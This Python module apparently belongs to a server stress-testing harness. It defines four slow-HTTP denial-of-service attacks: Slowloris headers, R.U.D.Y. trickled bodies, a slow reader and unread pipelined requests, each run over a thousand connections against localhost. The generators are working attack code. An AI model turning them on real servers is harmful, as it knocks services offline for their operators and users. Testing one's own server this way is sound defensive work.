"""What one host can do over HTTP/1.1: each attack is a generator of what a connection sends, at first and every second."""

from swarm import Attack

MANY = 1000


def slow_reader():
    """Asks for a large file and reads nothing."""
    yield b"GET /large HTTP/1.1\r\nHost: localhost\r\n\r\n"
    while True:
        yield b""


def slow_head():
    """A head that never ends (Slowloris)."""
    yield b"GET /small HTTP/1.1\r\nHost: localhost\r\n"
    while True:
        yield b"X-More: 1\r\n"


def slow_body():
    """A body of a megabyte, a byte a second (R.U.D.Y.)."""
    yield b"POST /small HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n"
    while True:
        yield b"x"


def pipeline():
    """Requests without end; the client reads no answer."""
    while True:
        yield b"GET /large HTTP/1.1\r\nHost: localhost\r\n\r\n" * 100


ATTACKS = {
    "slow-reader": Attack(1, slow_reader, MANY, reads=False),
    "slow-head": Attack(1, slow_head, MANY),
    "slow-body": Attack(1, slow_body, MANY),
    "pipeline": Attack(1, pipeline, MANY, reads=False),
}
